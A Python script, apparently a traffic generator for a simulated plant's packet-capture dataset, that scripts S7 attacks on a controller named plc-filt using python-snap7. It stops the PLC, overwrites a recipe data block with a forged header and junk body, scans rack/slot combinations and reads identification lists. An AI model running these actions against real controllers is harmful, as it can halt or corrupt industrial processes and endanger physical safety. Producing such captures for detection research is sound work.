"""S7 attacks on plc-filt, with the client of python-snap7."""

from __future__ import annotations

import contextlib
import struct
import sys
import time
from collections.abc import Callable

from snap7.error import S7Error

from pcaps.plant import masters
from pcaps.plant.s7_device import RECIPE_BYTES, RECIPE_NUMBER

SCANNED_SLOTS = tuple((rack, slot) for rack in (0, 1) for slot in range(5))
BLOCK_HEADER = struct.Struct(">HBBBBHII6s6sHHHH")
"""Mark, version, attribute, language, type, number, load size, password, two times, three lengths, size of the body."""
BLOCK_MARK, DATA_BLOCK = 0x7070, 0x0A


def stop() -> None:
    """Read the mode, stop the controller, read the mode again."""
    client = masters.s7(masters.PG)
    client.read_szl(0x0424, 0)
    client.plc_stop()
    time.sleep(0.5)
    client.read_szl(0x0424, 0)
    client.disconnect()


def download() -> None:
    """Replace the recipe block: request, three blocks fetched by the controller, end."""
    client = masters.s7(masters.PG)
    length = RECIPE_BYTES - BLOCK_HEADER.size
    kind = (BLOCK_MARK, 1, 1, 5, DATA_BLOCK, RECIPE_NUMBER)
    header = BLOCK_HEADER.pack(*kind, RECIPE_BYTES, 0, b"", b"", 0, 0, 0, length)
    body = bytes(number * 7 % 251 for number in range(length))
    client.download(bytearray(header + body), RECIPE_NUMBER)
    client.disconnect()


def slots() -> None:
    """Ask for a connection to one rack and slot after the other."""
    for rack, slot in SCANNED_SLOTS:
        with contextlib.suppress(S7Error, OSError):
            masters.s7(masters.PG, rack, slot).disconnect()
        time.sleep(0.5)


def identify() -> None:
    """Read the module and component identification lists."""
    client = masters.s7(masters.PG)
    for number in (0x0011, 0x001C):
        client.read_szl(number, 0)
        time.sleep(0.3)
    client.disconnect()


ACTIONS: dict[str, Callable[[], None]] = {action.__name__: action for action in (stop, download, slots, identify)}


if __name__ == "__main__":
    ACTIONS[sys.argv[1]]()
